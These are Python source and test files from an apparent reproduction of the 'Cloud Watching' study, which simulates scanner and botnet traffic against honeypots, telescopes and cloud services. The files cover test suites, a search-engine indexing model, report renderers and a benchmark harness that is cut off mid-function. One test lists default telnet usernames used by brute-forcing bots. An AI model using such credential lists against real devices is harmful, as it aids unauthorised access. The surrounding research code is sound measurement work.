        assert {row.port for row in output.data} == {80, 8080}

    def test_f1(self, small_context):
        output = figure01_address_structure.run(small_context)
        assert set(output.data) == {22, 445, 80, 17128}
        assert "rolling avg" in output.text

    def test_m1(self, small_context):
        output = method_maliciousness.run(small_context)
        numbers = output.data
        assert 0 <= numbers.ssh_non_auth_pct <= 100


class TestTemporalDrivers:
    def test_t12_runs_on_2020(self, small_context_2020):
        output = run_table12(small_context_2020)
        assert output.experiment_id == "T12"
        assert "2020" in output.title

    def test_t13(self, small_context_2020):
        assert run_table13(small_context_2020).experiment_id == "T13"

    def test_t14(self, small_context_2022):
        assert run_table14(small_context_2022).experiment_id == "T14"

    def test_t15_stronger_avoidance_in_2022(self, small_context, small_context_2022):
        from repro.experiments import table10_telescope_as

        cells_2021 = {
            (c.comparison, c.slice_name): c
            for c in table10_telescope_as.run(small_context).data
        }
        cells_2022 = {
            (c.comparison, c.slice_name): c
            for c in run_table15(small_context_2022).data
        }
        key = ("telescope-cloud", "ssh22")
        assert cells_2022[key].avg_phi > 0
        assert cells_2021[key].avg_phi > 0

    def test_t16(self, small_context_2020):
        assert run_table16(small_context_2020).experiment_id == "T16"

    def test_t17_more_unexpected_than_2021(self, small_context, small_context_2022):
        rows_2021 = {row.port: row for row in
                     table11_unexpected_protocols.run(small_context).data}
        rows_2022 = {row.port: row for row in run_table17(small_context_2022).data}
        for port in (80, 8080):
            assert rows_2022[port].unexpected_pct > rows_2021[port].unexpected_pct

    def test_2020_has_more_ssh_neighborhood_variation(
        self, small_context, small_context_2020
    ):
        """Appendix C.1: 2020's anomalous SSH events raise neighborhood
        differences (73% vs 44% in the paper)."""
        report_2021 = table02_neighborhoods.run(small_context).data
        report_2020 = run_table12(small_context_2020).data
        assert (
            report_2020.cell("ssh22", "as").percent_different
            >= report_2021.cell("ssh22", "as").percent_different - 10.0
        )


class TestRendering:
    def test_all_outputs_render(self, small_context):
        for runner in (
            table01_vantage_points.run, table06_colocated.run,
            table08_telescope_overlap.run, table09_attacker_overlap.run,
            method_maliciousness.run,
        ):
            output = runner(small_context)
            rendered = output.render()
            assert output.experiment_id in rendered
            assert len(rendered.splitlines()) > 3


class TestExtensionDrivers:
    def test_x1_blocklists(self, small_context):
        from repro.experiments import ext_blocklists

        output = ext_blocklists.run(small_context)
        assert output.experiment_id == "X1"
        assert len(output.data) == 9

    def test_x2_campaigns(self, small_context):
        from repro.experiments import ext_campaigns

        output = ext_campaigns.run(small_context)
        assert output.experiment_id == "X2"
        assert output.data, "campaigns must be inferred"

    def test_x4_operator_report(self, small_context):
        from repro.experiments import ext_recommendations

        output = ext_recommendations.run(small_context)
        assert output.experiment_id == "X4"
        recommendations = output.data["recommendations"]
        assert len(recommendations) == 5
        # Recommendation 1: telescope misses the vast majority of SSH attackers.
        assert recommendations[0].value > 60.0
        assert output.data["tags"], "actor tags must be assigned"
