"""Guard rails for the population calibration (ground-truth checks).

These tests read the population *definitions* (allowed: they are the
simulator's configuration, not captured data) and pin the structural
invariants the analyses depend on.  If a future calibration edit breaks
one, the failure names the drifted knob directly instead of surfacing as
a mysterious table regression.
"""

import pytest

from repro.net.packets import Transport
from repro.scanners.credentials import DIALECTS
from repro.scanners.population import (
    CHINA_ASES,
    LOADER_SHELL,
    MIRAI_SHELL,
    PopulationConfig,
    build_population,
)
from repro.sim.events import NetworkKind


@pytest.fixture(scope="module")
def population():
    return build_population(PopulationConfig(year=2021, scale=1.0))


class TestStructuralInvariants:
    def test_rates_positive_and_bounded(self, population):
        for spec in population:
            for plan in spec.plans:
                assert 0 < plan.rate < 100, f"{spec.scanner_id} rate {plan.rate}"

    def test_credential_dialects_exist(self, population):
        for spec in population:
            for plan in spec.plans:
                if plan.credential_dialect:
                    assert plan.credential_dialect in DIALECTS
                for dialect in plan.region_dialects.values():
                    assert dialect in DIALECTS

    def test_http_payload_names_resolve(self, population):
        from repro.scanners.payloads import http_payload

        for spec in population:
            for plan in spec.plans:
                for name in plan.http_payloads:
                    http_payload(name)  # raises on unknown names

    def test_search_engine_users_have_matching_port_plans(self, population):
        for spec in population:
            if spec.search_engine is not None and spec.search_engine.mode == "target":
                assert spec.plans, spec.scanner_id

    def test_interactive_plans_use_interactive_protocols(self, population):
        for spec in population:
            for plan in spec.plans:
                if plan.credential_dialect:
                    assert plan.protocol in ("ssh", "telnet"), spec.scanner_id

    def test_shell_commands_only_on_interactive_plans(self, population):
        for spec in population:
            for plan in spec.plans:
                if plan.shell_commands:
                    assert plan.interactive, spec.scanner_id


class TestBehavioralKnobs:
    def test_tsunami_exclusively_hurricane(self, population):
        tsunami = [s for s in population if s.family == "tsunami"]
        assert len(tsunami) == 1
        assert tsunami[0].strategy.exclusive_networks == ("hurricane",)
        assert tsunami[0].strategy.latch_exclusive

    def test_mirai_telnet_has_loader_shell(self, population):
        botnets = [s for s in population if s.family == "mirai-telnet"]
        assert botnets
        for spec in botnets:
            plan = spec.plans[0]
            assert plan.shell_commands in (MIRAI_SHELL, LOADER_SHELL)
            assert plan.credential_dialect == "mirai"

    def test_emirates_targets_only_mumbai(self, population):
        emirates = next(s for s in population if s.family == "emirates-mumbai")
        assert emirates.asn == 5384
        assert emirates.strategy.exclusive_regions == ("AP-IN",)

    def test_satnet_avoids_mumbai(self, population):
        satnet = next(s for s in population if s.family == "satnet-not-mumbai")
        assert satnet.asn == 14522
        assert satnet.strategy.region_weights.get("AP-IN") == 0.0

    def test_nmap_avoiders_use_censys_avoid_mode(self, population):
        avoiders = [s for s in population if s.family == "nmap-censys-avoider"]
        assert {s.asn for s in avoiders} == {198605, 9009, 60068}
        for spec in avoiders:
            assert spec.search_engine.mode == "avoid"
            assert spec.search_engine.engine == "censys"

    def test_oracle_structure_scanner_strength(self, population):
        oracle = [s for s in population if s.family == "oracle-structure"]
        assert oracle
        for spec in oracle:
            assert spec.strategy.structure.any_255_factor == pytest.approx(1 / 61.0)

    def test_evasive_family_telescope_visible(self, population):
        evasive = [s for s in population if s.family == "evasive-ssh"]
        assert evasive
        for spec in evasive:
            assert spec.honeypot_evasion >= 0.8
            # they do NOT have telescope weight zero: that is the point
            assert spec.strategy.kind_weights.get(NetworkKind.TELESCOPE, 1.0) > 0

    def test_udp_campaigns_use_udp_transport(self, population):
        udp_specs = [s for s in population if s.family.startswith("udp-")]
        assert udp_specs
        for spec in udp_specs:
            assert all(plan.transport is Transport.UDP for plan in spec.plans)

    def test_china_ases_mostly_avoid_telescope_on_ssh(self, population):
        """Section 5.2: Chinese ASes are the strongest telescope avoiders."""
        china_ssh = [
            s for s in population
            if s.asn in CHINA_ASES and s.plan_for(22) is not None
            and s.strategy.kind_weights.get(NetworkKind.CLOUD, 1.0) >= 0.1
        ]
        assert china_ssh
        avoiders = [
            s for s in china_ssh
            if s.strategy.kind_weights.get(NetworkKind.TELESCOPE, 1.0) == 0.0
        ]
        assert len(avoiders) / len(china_ssh) > 0.6

    def test_previously_leaked_mechanism_via_age_boost(self):
        """The stale-age boost is what makes previously-leaked IPs hot."""
        from repro.scanners.base import SearchEngineUse

        use = SearchEngineUse("censys")
        two_years = use.selection_probability(-2 * 365 * 24.0, True)
        fresh_other = use.selection_probability(5.0, False)
        assert two_years > fresh_other
