"""Tests for scanner specs, port plans, temporal profiles, and populations."""

import numpy as np
import pytest

from repro.net.asn import default_registry
from repro.scanners.base import PortPlan, ScannerSpec, SearchEngineUse, TemporalProfile
from repro.scanners.population import PopulationConfig, build_population
from repro.scanners.strategies import TargetStrategy

RNG = np.random.default_rng(5)


def simple_plan(**kwargs):
    defaults = dict(port=80, protocol="http", rate=1.0,
                    http_payloads=("root-get",), http_weights=(1.0,))
    defaults.update(kwargs)
    return PortPlan(**defaults)


class TestTemporalProfile:
    def test_uniform_within_window(self):
        times = TemporalProfile().sample_times(RNG, 500, 168.0)
        assert times.min() >= 0 and times.max() < 168

    def test_burst_concentrates(self):
        profile = TemporalProfile(mode="burst", burst_count=1, burst_hours=2.0)
        times = profile.sample_times(RNG, 200, 168.0)
        assert times.max() - times.min() <= 2.0 + 1e-9

    def test_zero_count(self):
        assert TemporalProfile().sample_times(RNG, 0, 168.0).size == 0

    def test_validation(self):
        with pytest.raises(ValueError):
            TemporalProfile(mode="sometimes")
        with pytest.raises(ValueError):
            TemporalProfile(burst_count=0)
        with pytest.raises(ValueError):
            TemporalProfile(burst_hours=0)


class TestPortPlan:
    def test_validation(self):
        with pytest.raises(ValueError):
            PortPlan(80, "http", -1.0)
        with pytest.raises(ValueError):
            PortPlan(80, "http", 1.0, http_payloads=("a",), http_weights=())
        with pytest.raises(ValueError):
            PortPlan(22, "ssh", 1.0, banner_only_fraction=1.5)
        with pytest.raises(ValueError):
            PortPlan(22, "ssh", 1.0, credential_attempts=(5, 2))

    def test_interactive_requires_dialect_and_protocol(self):
        assert PortPlan(22, "ssh", 1.0, credential_dialect="global-ssh").interactive
        assert not PortPlan(22, "ssh", 1.0).interactive
        assert not PortPlan(80, "http", 1.0, credential_dialect="global-ssh").interactive

    def test_http_intent_payload(self):
        intent = simple_plan().build_intent(RNG, 1.0, 1, 2)
        assert intent.payload.startswith(b"GET / HTTP/1.1")
        assert intent.credentials == ()

    def test_ssh_intent_credentials(self):
        plan = PortPlan(22, "ssh", 1.0, credential_dialect="global-ssh",
                        credential_attempts=(2, 2))
        intent = plan.build_intent(RNG, 1.0, 1, 2)
        assert len(intent.credentials) == 2
        assert intent.payload.startswith(b"SSH-")

    def test_banner_only_sessions_have_no_credentials(self):
        plan = PortPlan(22, "ssh", 1.0, credential_dialect="global-ssh",
                        banner_only_fraction=1.0)
        intent = plan.build_intent(RNG, 1.0, 1, 2)
        assert intent.credentials == ()
        assert intent.payload.startswith(b"SSH-")

    def test_region_dialect_override(self):
        plan = PortPlan(
            23, "telnet", 1.0, credential_dialect="global-telnet",
            credential_attempts=(8, 8),
            region_dialects={"AP-AU": "apac-huawei"},
        )
        rng = np.random.default_rng(0)
        au = plan.build_intent(rng, 1.0, 1, 2, dst_region="AP-AU")
        usernames = {username for username, _ in (c.as_tuple() for c in au.credentials)}
        huawei = {"mother", "e8ehome", "e8telnet", "telecomadmin", "root", "admin"}
        assert usernames <= huawei

    def test_raw_protocol_intent(self):
        plan = PortPlan(80, "tls", 1.0)
        intent = plan.build_intent(RNG, 1.0, 1, 2)
        assert intent.payload[0] == 0x16

    def test_empty_protocol_sends_nothing(self):
        plan = PortPlan(17128, "", 1.0)
        intent = plan.build_intent(RNG, 1.0, 1, 2)
        assert intent.payload == b"" and intent.credentials == ()


class TestSearchEngineUse:
    def test_validation(self):
        with pytest.raises(ValueError):
            SearchEngineUse("google")
        with pytest.raises(ValueError):
            SearchEngineUse("censys", mode="watch")
        with pytest.raises(ValueError):
            SearchEngineUse("censys", fresh_match=1.5)
        with pytest.raises(ValueError):
            SearchEngineUse("censys", spike_sessions=0)

    def test_fresh_beats_stale(self):
        use = SearchEngineUse("censys")
        assert use.selection_probability(10.0, True) > use.selection_probability(-10.0, True)

    def test_match_beats_other(self):
        use = SearchEngineUse("censys")
        assert use.selection_probability(10.0, True) > use.selection_probability(10.0, False)

    def test_old_stale_entries_gain_discoverers(self):
        use = SearchEngineUse("censys")
        recent = use.selection_probability(-24.0, True)
        two_years = use.selection_probability(-2 * 365 * 24.0, True)
        assert two_years > recent * 5

    def test_probabilities_bounded(self):
        use = SearchEngineUse("censys")
        for first_indexed in (-1e6, -24.0, 0.0, 100.0):
            for match in (True, False):
                assert 0.0 <= use.selection_probability(first_indexed, match) <= 1.0


class TestScannerSpec:
    def test_validation(self):
        with pytest.raises(ValueError):
            ScannerSpec("s", "f", 1, TargetStrategy(), plans=())
        with pytest.raises(ValueError):
            ScannerSpec("s", "f", 1, TargetStrategy(), plans=(simple_plan(),), num_sources=0)
        with pytest.raises(ValueError):
            ScannerSpec("s", "f", 1, TargetStrategy(),
                        plans=(simple_plan(), simple_plan()))

    def test_plan_lookup(self):
        spec = ScannerSpec("s", "f", 1, TargetStrategy(),
                           plans=(simple_plan(), simple_plan(port=443, protocol="tls",
                                                             http_payloads=(), http_weights=())))
        assert spec.plan_for(443).protocol == "tls"
        assert spec.plan_for(22) is None
        assert spec.ports == (80, 443)


class TestPopulation:
    @pytest.mark.parametrize("year", [2020, 2021, 2022])
    def test_builds_for_all_years(self, year):
        population = build_population(PopulationConfig(year=year, scale=0.1))
        assert len(population) > 50

    def test_invalid_year(self):
        with pytest.raises(ValueError):
            PopulationConfig(year=2019)

    def test_invalid_scale(self):
        with pytest.raises(ValueError):
            PopulationConfig(scale=0)

    def test_scale_grows_population(self):
        small = build_population(PopulationConfig(scale=0.1))
        large = build_population(PopulationConfig(scale=0.5))
        assert len(large) > len(small)

    def test_scanner_ids_unique(self):
        population = build_population(PopulationConfig(scale=0.3))
        ids = [spec.scanner_id for spec in population]
        assert len(ids) == len(set(ids))

    def test_all_asns_registered(self):
        registry = default_registry()
        for spec in build_population(PopulationConfig(scale=0.3)):
            assert spec.asn in registry, f"{spec.scanner_id} uses unregistered AS{spec.asn}"

    def test_sources_allocatable(self):
        registry = default_registry()
        for spec in build_population(PopulationConfig(scale=0.3)):
            for _ in range(spec.num_sources):
                registry.allocate_source(spec.asn)

    def test_telescope_avoidance_fraction_by_port(self):
        """Ground-truth mixture sanity: SSH campaigns mostly avoid the
        telescope, Telnet/23 campaigns mostly do not (paper Table 8)."""
        from repro.sim.events import NetworkKind

        population = build_population(PopulationConfig(scale=1.0))

        def avoider_fraction(port):
            # Among cloud-targeting source IPs on this port, how many
            # belong to campaigns that never contact the telescope?
            on_port = [
                s for s in population
                if s.plan_for(port) is not None
                and s.strategy.kind_weights.get(NetworkKind.CLOUD, 1.0) >= 0.1
            ]
            total = sum(s.num_sources for s in on_port)
            avoiders = sum(
                s.num_sources for s in on_port
                if s.strategy.kind_weights.get(NetworkKind.TELESCOPE, 1.0) == 0.0
            )
            return avoiders / total

        assert avoider_fraction(22) > 0.5
        assert avoider_fraction(23) < 0.3

    def test_2022_has_more_unexpected_probers(self):
        def unexpected_count(year):
            return sum(
                1 for s in build_population(PopulationConfig(year=year, scale=1.0))
                if s.family.startswith("unexpected-")
            )

        assert unexpected_count(2022) > 1.5 * unexpected_count(2021)

    def test_2020_has_regional_ssh_anomalies(self):
        population = build_population(PopulationConfig(year=2020, scale=1.0))
        anomalies = [s for s in population if s.family.startswith("ssh-anomaly-")]
        assert len(anomalies) >= 6
        population_2021 = build_population(PopulationConfig(year=2021, scale=1.0))
        assert not any(s.family.startswith("ssh-anomaly-") for s in population_2021)

    def test_2021_chinanet_edu_skew_disappears_in_2022(self):
        from repro.sim.events import NetworkKind

        def chinanet_edu_boosted(year):
            population = build_population(PopulationConfig(year=year, scale=1.0))
            return any(
                spec.asn == 4134
                and spec.strategy.kind_weights.get(NetworkKind.EDU, 1.0) > 1.0
                for spec in population
            )

        assert chinanet_edu_boosted(2021)
        assert not chinanet_edu_boosted(2022)
