"""cloudwatching: a reproduction of "Cloud Watching: Understanding Attacks
Against Cloud-Hosted Services" (IMC 2023).

Layers (bottom to top):

* :mod:`repro.net` — IPv4 addressing, AS registry, geography, packets.
* :mod:`repro.sim` — clock, RNG streams, event schema, traffic engine.
* :mod:`repro.scanners` — scanner-population models (the workload).
* :mod:`repro.honeypots` — capture frameworks + live asyncio honeypots.
* :mod:`repro.searchengines` — Censys/Shodan crawl+index models.
* :mod:`repro.detection` — IDS rules, LZR fingerprinting, reputation.
* :mod:`repro.deployment` — the paper's Table 1 fleet geometry.
* :mod:`repro.stats` — the Section 3.3/4.3 statistical methodology.
* :mod:`repro.analysis` — table/figure analysis pipelines.
* :mod:`repro.experiments` — one driver per paper table/figure.
"""

__version__ = "1.0.0"

__all__ = ["__version__"]
