"""Markdown report generation for experiment outputs.

``cloudwatching run all --output report.md`` writes every regenerated
table/figure into one self-contained Markdown document with a table of
contents — the artifact to attach to a reproduction report or CI run.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Iterable, Union

from repro.experiments.base import ExperimentOutput

__all__ = ["experiment_to_markdown", "write_markdown_report"]


def _anchor(title: str) -> str:
    """GitHub-style heading anchor."""
    slug = re.sub(r"[^a-z0-9 -]", "", title.lower())
    return slug.strip().replace(" ", "-")


def experiment_to_markdown(output: ExperimentOutput) -> str:
    """One experiment as a Markdown section (monospace body)."""
    heading = f"{output.experiment_id}: {output.title}"
    return f"## {heading}\n\n```text\n{output.text}\n```\n"


def write_markdown_report(
    outputs: Iterable[ExperimentOutput],
    path: Union[str, Path],
    title: str = "Cloud Watching — regenerated tables and figures",
) -> Path:
    """Write a combined report; returns the path written."""
    outputs = list(outputs)
    lines = [f"# {title}", ""]
    lines.append("Contents:")
    for output in outputs:
        heading = f"{output.experiment_id}: {output.title}"
        lines.append(f"- [{heading}](#{_anchor(heading)})")
    lines.append("")
    for output in outputs:
        lines.append(experiment_to_markdown(output))
    path = Path(path)
    path.write_text("\n".join(lines), encoding="utf-8")
    return path
