"""Rendering helpers for experiment output."""

from repro.reporting.markdown import experiment_to_markdown, write_markdown_report
from repro.reporting.tables import ascii_plot, pct_cell, phi_cell, render_table

__all__ = ["ascii_plot", "pct_cell", "phi_cell", "render_table",
           "experiment_to_markdown", "write_markdown_report"]
