"""Plain-text table and figure rendering for experiment output.

Experiments print the same rows the paper's tables report; these helpers
render them consistently: fixed-width ASCII tables, effect-size magnitude
tags (the paper's blue/yellow/red as ``[small]``/``[medium]``/``[large]``),
and a Unicode line plot for the Figure 1 panels.
"""

from __future__ import annotations

from typing import Iterable, Optional, Sequence

import numpy as np

from repro.stats.contingency import EffectMagnitude

__all__ = ["render_table", "phi_cell", "pct_cell", "ascii_plot"]


def render_table(
    headers: Sequence[str],
    rows: Iterable[Sequence[object]],
    title: str = "",
) -> str:
    """Render an ASCII table with auto-sized columns."""
    materialized = [[str(cell) for cell in row] for row in rows]
    widths = [len(header) for header in headers]
    for row in materialized:
        if len(row) != len(headers):
            raise ValueError("row width does not match headers")
        for index, cell in enumerate(row):
            widths[index] = max(widths[index], len(cell))

    def _line(cells: Sequence[str]) -> str:
        return "| " + " | ".join(cell.ljust(widths[i]) for i, cell in enumerate(cells)) + " |"

    separator = "+" + "+".join("-" * (width + 2) for width in widths) + "+"
    lines = []
    if title:
        lines.append(title)
    lines.append(separator)
    lines.append(_line(list(headers)))
    lines.append(separator)
    for row in materialized:
        lines.append(_line(row))
    lines.append(separator)
    return "\n".join(lines)


def phi_cell(phi: float, magnitude: Optional[EffectMagnitude] = None) -> str:
    """Format an effect size with its magnitude tag (``-`` when absent)."""
    if phi <= 0:
        return "-"
    tag = f" [{magnitude.value}]" if magnitude is not None else ""
    return f"{phi:.2f}{tag}"


def pct_cell(value: Optional[float], digits: int = 0) -> str:
    """Format a percentage, rendering None as the paper's ×."""
    if value is None:
        return "x"
    return f"{value:.{digits}f}%"


def ascii_plot(
    series: np.ndarray,
    width: int = 72,
    height: int = 12,
    title: str = "",
    y_label: str = "",
) -> str:
    """Render a line series as a block-character plot (Figure 1 panels)."""
    series = np.asarray(series, dtype=np.float64)
    if series.size == 0:
        return f"{title}\n(empty series)"
    if series.size > width:
        # Downsample by averaging fixed-size buckets.
        edges = np.linspace(0, series.size, width + 1, dtype=int)
        series = np.asarray(
            [series[start:end].mean() for start, end in zip(edges[:-1], edges[1:])]
        )
    low, high = float(series.min()), float(series.max())
    span = high - low if high > low else 1.0
    levels = np.clip(((series - low) / span * (height - 1)).round().astype(int), 0, height - 1)
    grid = [[" "] * len(series) for _ in range(height)]
    for column, level in enumerate(levels):
        for row in range(level + 1):
            grid[row][column] = "█" if row == level else "│"
    lines = []
    if title:
        lines.append(title)
    lines.append(f"{y_label} max={high:.1f}")
    for row in reversed(range(height)):
        lines.append("".join(grid[row]))
    lines.append(f"min={low:.1f}  ({series.size} buckets)")
    return "\n".join(lines)
