"""Internet service search-engine model (Censys/Shodan).

Section 4.3's leak experiment needs exactly three behaviors from a search
engine:

1. it *crawls* from identifiable source IPs and indexes services that
   complete a handshake (telescopes, which never respond, are never
   indexed — one reason attackers can avoid them);
2. indexed ``(ip, port)`` pairs become queryable by attackers after an
   indexing delay;
3. operators can *block* the engine's crawlers per IP, preventing
   indexing (the experiment's control and selective-leak groups).

:class:`SearchEngine` implements those behaviors; :class:`ServiceIndex`
is the queryable artifact attackers mine.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable, Optional

from repro.honeypots.base import VantagePoint

__all__ = ["IndexEntry", "ServiceIndex", "SearchEngine", "ENGINE_NAMES"]

ENGINE_NAMES: tuple[str, ...] = ("censys", "shodan")


@dataclass(frozen=True)
class IndexEntry:
    """One indexed service: where, what, and when it was first indexed.

    ``first_indexed`` is in hours relative to the observation window start
    and may be negative for services indexed before the window (the
    "previously leaked" group).
    """

    ip: int
    port: int
    protocol: str
    first_indexed: float


class ServiceIndex:
    """Queryable index of services an engine has discovered."""

    def __init__(self, engine: str) -> None:
        self.engine = engine
        self._entries: dict[tuple[int, int], IndexEntry] = {}

    def add(self, entry: IndexEntry) -> None:
        key = (entry.ip, entry.port)
        existing = self._entries.get(key)
        if existing is None or entry.first_indexed < existing.first_indexed:
            self._entries[key] = entry

    def remove(self, ip: int, port: int) -> None:
        self._entries.pop((ip, port), None)

    def __len__(self) -> int:
        return len(self._entries)

    def __contains__(self, key: tuple[int, int]) -> bool:
        return key in self._entries

    def entries(self) -> list[IndexEntry]:
        return sorted(self._entries.values(), key=lambda entry: (entry.ip, entry.port))

    def services_on_port(self, port: int, visible_at: Optional[float] = None) -> list[IndexEntry]:
        """Indexed services on ``port``, optionally only those already
        visible at time ``visible_at``."""
        found = [entry for (ip, p), entry in self._entries.items() if p == port]
        if visible_at is not None:
            found = [entry for entry in found if entry.first_indexed <= visible_at]
        return sorted(found, key=lambda entry: entry.ip)

    def lookup(self, ip: int, port: int) -> Optional[IndexEntry]:
        return self._entries.get((ip, port))


@dataclass
class SearchEngine:
    """A crawling search engine with per-IP access control.

    ``crawler_asn`` attributes crawl traffic; ``indexing_delay_hours`` is
    how long after a crawl a service appears in query results.  The
    ``blocked`` set holds destination IPs whose operators blocklist this
    engine's crawlers.
    """

    name: str
    crawler_asn: int
    indexing_delay_hours: float = 6.0
    crawl_ports: tuple[int, ...] = (21, 22, 23, 25, 80, 443, 2222, 2323, 8080)
    blocked: set[int] = field(default_factory=set)
    blocked_services: set[tuple[int, int]] = field(default_factory=set)
    index: ServiceIndex = field(init=False)

    def __post_init__(self) -> None:
        if self.name not in ENGINE_NAMES:
            raise ValueError(f"unknown engine {self.name!r}")
        self.index = ServiceIndex(self.name)

    def block(self, ips: Iterable[int]) -> None:
        """Blocklist destination IPs (they will never be indexed)."""
        self.blocked.update(int(ip) for ip in ips)

    def allow(self, ips: Iterable[int]) -> None:
        self.blocked.difference_update(int(ip) for ip in ips)

    def block_service(self, ip: int, port: int) -> None:
        """Blocklist one (ip, port) service specifically.

        The leak experiment blocks every service on a honeypot except the
        single (engine, protocol) combination being leaked.
        """
        self.blocked_services.add((int(ip), int(port)))

    def is_blocked(self, ip: int, port: int) -> bool:
        return ip in self.blocked or (ip, port) in self.blocked_services

    def seed_historical(self, ip: int, port: int, protocol: str, hours_before: float) -> None:
        """Record a service indexed before the window (previously leaked)."""
        self.index.add(IndexEntry(ip, port, protocol, first_indexed=-abs(hours_before)))

    def crawl_vantage(
        self,
        vantage: VantagePoint,
        crawl_time: float,
        protocol_of_port: dict[int, str],
    ) -> int:
        """Crawl one vantage point; index what responds.

        A service is indexed when the stack completes handshakes (real
        services and honeypots do; telescopes do not), the port is
        observed/exposed, and the destination IP is not blocking the
        crawler.  Returns the number of services indexed.
        """
        if not vantage.stack.completes_handshake:
            return 0
        indexed = 0
        for port in self.crawl_ports:
            if not vantage.stack.observes(port):
                continue
            for ip in vantage.ips:
                ip = int(ip)
                if self.is_blocked(ip, port):
                    continue
                self.index.add(
                    IndexEntry(
                        ip=ip,
                        port=port,
                        protocol=protocol_of_port.get(port, "unknown"),
                        first_indexed=crawl_time + self.indexing_delay_hours,
                    )
                )
                indexed += 1
        return indexed
