"""Censys/Shodan-style Internet service search-engine models."""

from repro.searchengines.index import ENGINE_NAMES, IndexEntry, SearchEngine, ServiceIndex

__all__ = ["ENGINE_NAMES", "IndexEntry", "SearchEngine", "ServiceIndex"]
