"""Benchmark harness: wall-clock timings for the simulate→analyze path.

Times the four build stages (deployment, population, simulation, dataset
construction) plus each experiment's analysis step, and appends one
timestamped record to a JSON artifact (``BENCH_simulation.json`` by
default, a list of records) so regressions are visible across runs.

Entry points::

    cloudwatching bench --scale 1.0          # CLI subcommand
    python benchmarks/run_bench.py           # repo-local wrapper
    python -m repro.bench                    # module form

The benchmark pytest session (``pytest benchmarks/``) appends its own
per-test records to the same artifact via ``benchmarks/conftest.py``.
"""

from __future__ import annotations

import argparse
import json
import os
import time
from typing import Optional, Sequence

__all__ = ["run_bench", "run_stream_bench", "run_serve_bench",
           "run_incident_bench", "append_record", "DEFAULT_ARTIFACT", "main"]

#: Default JSON artifact, written to the current working directory.
DEFAULT_ARTIFACT = "BENCH_simulation.json"

#: Environment variable overriding the artifact path everywhere.
ARTIFACT_ENV = "CLOUDWATCHING_BENCH_JSON"


def artifact_path(override: Optional[str] = None) -> str:
    """Resolve the artifact path (argument > environment > default)."""
    return override or os.environ.get(ARTIFACT_ENV) or DEFAULT_ARTIFACT


def append_record(record: dict, path: Optional[str] = None) -> str:
    """Append one record to the JSON artifact (a list of records).

    A missing or unparsable artifact starts a fresh list rather than
    failing the benchmark that produced the record.
    """
    resolved = artifact_path(path)
    records: list = []
    try:
        with open(resolved, "r", encoding="utf-8") as handle:
            existing = json.load(handle)
        if isinstance(existing, list):
            records = existing
    except (OSError, ValueError):
        pass
    records.append(record)
    with open(resolved, "w", encoding="utf-8") as handle:
        json.dump(records, handle, indent=2, sort_keys=True)
        handle.write("\n")
    return resolved


def _timestamp() -> str:
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())


def run_bench(
    scale: float = 1.0,
    telescope_slash24s: int = 16,
    seed: int = 777,
    year: int = 2021,
    emission: str = "batch",
    experiments: Optional[Sequence[str]] = None,
    orchestrate_workers: Optional[Sequence[int]] = None,
    orchestrate_sweep: bool = False,
    artifact: Optional[str] = None,
    quiet: bool = False,
) -> dict:
    """Run the simulation bench once and append the record to the artifact.

    ``experiments=None`` times every experiment that runs on ``year``'s
    population; pass an explicit list (possibly empty) to restrict it.
    ``orchestrate_workers`` additionally times a full orchestrated
    collection (simulate → spill → lazy merge, no analysis) at each
    worker count.  Each entry in the record's ``"orchestrate"`` mapping
    is a dict carrying the wall clock, the requested and resolved worker
    counts, the machine's CPU count, and the per-stage split (plan /
    simulate / merge), so speedups and merge overhead are both visible
    across runs.  ``None`` or an empty sequence skips those runs (the
    CLI defaults to ``1 2 4``).  ``orchestrate_sweep=True`` forces the
    canonical ``(1, 2, 4)`` sweep and additionally records each count's
    speedup ratio against the 1-worker run.
    """
    from repro.analysis.dataset import AnalysisDataset
    from repro.cli import EXPERIMENT_YEARS
    from repro.deployment.fleet import build_full_deployment
    from repro.experiments import ALL_EXPERIMENTS, ExperimentConfig, ExperimentContext
    from repro.experiments.context import _WINDOWS
    from repro.scanners.population import PopulationConfig, build_population
    from repro.sim.engine import SimulationConfig, run_simulation
    from repro.sim.rng import RngHub

    def _say(message: str) -> None:
        if not quiet:
            print(message, flush=True)

    if experiments is not None:
        unknown = [name for name in experiments if name not in ALL_EXPERIMENTS]
        if unknown:
            raise ValueError(
                f"unknown experiments: {', '.join(unknown)} "
                f"(choose from {', '.join(ALL_EXPERIMENTS)})"
            )

    config = ExperimentConfig(
        year=year, scale=scale, telescope_slash24s=telescope_slash24s, seed=seed
    )

    # Orchestrator timings run FIRST, while this process is lean: fork
    # workers inherit the parent address space, and forking after the
    # in-process pipeline has built its datasets measurably slows every
    # worker (copy-on-write over a fat heap).  A real `cloudwatching
    # orchestrate` starts from a lean parent; time the same thing.
    if orchestrate_sweep:
        orchestrate_workers = (1, 2, 4)
    orchestrate_records: dict[str, dict] = {}
    if orchestrate_workers:
        import shutil
        import tempfile

        from repro.runner import orchestrate

        for workers in orchestrate_workers:
            out_dir = tempfile.mkdtemp(prefix=f"cw-bench-orch-{workers}w-")
            try:
                started = time.perf_counter()
                run = orchestrate(
                    config, workers=workers, out_dir=out_dir, quiet=True
                )
                seconds = time.perf_counter() - started
            finally:
                shutil.rmtree(out_dir, ignore_errors=True)
            orchestrate_records[str(workers)] = {
                "seconds": round(seconds, 4),
                "workers_requested": workers,
                "workers": run.stats.workers,
                "cpu_count": os.cpu_count(),
                "num_shards": run.stats.num_shards,
                "events": run.stats.events_total,
                "plan_seconds": round(run.stats.plan_seconds, 4),
                "simulate_seconds": round(run.stats.simulate_seconds, 4),
                "merge_seconds": round(run.stats.merge_seconds, 4),
            }
            _say(f"orchestrate --workers {workers} ran in {seconds:.2f}s "
                 f"(merge {run.stats.merge_seconds:.2f}s)")

    stages: dict[str, float] = {}

    started = time.perf_counter()
    hub = RngHub(seed)
    deployment = build_full_deployment(hub, num_telescope_slash24s=telescope_slash24s)
    stages["deployment"] = time.perf_counter() - started
    _say(f"deployment built in {stages['deployment']:.2f}s")

    started = time.perf_counter()
    population = build_population(PopulationConfig(year=year, scale=scale))
    stages["population"] = time.perf_counter() - started
    _say(f"population built in {stages['population']:.2f}s ({len(population)} scanners)")

    started = time.perf_counter()
    result = run_simulation(
        deployment,
        population,
        SimulationConfig(seed=seed, window=_WINDOWS[year], emission=emission),
    )
    stages["simulation"] = time.perf_counter() - started
    _say(f"simulation ran in {stages['simulation']:.2f}s ({result.total_events():,} events)")

    started = time.perf_counter()
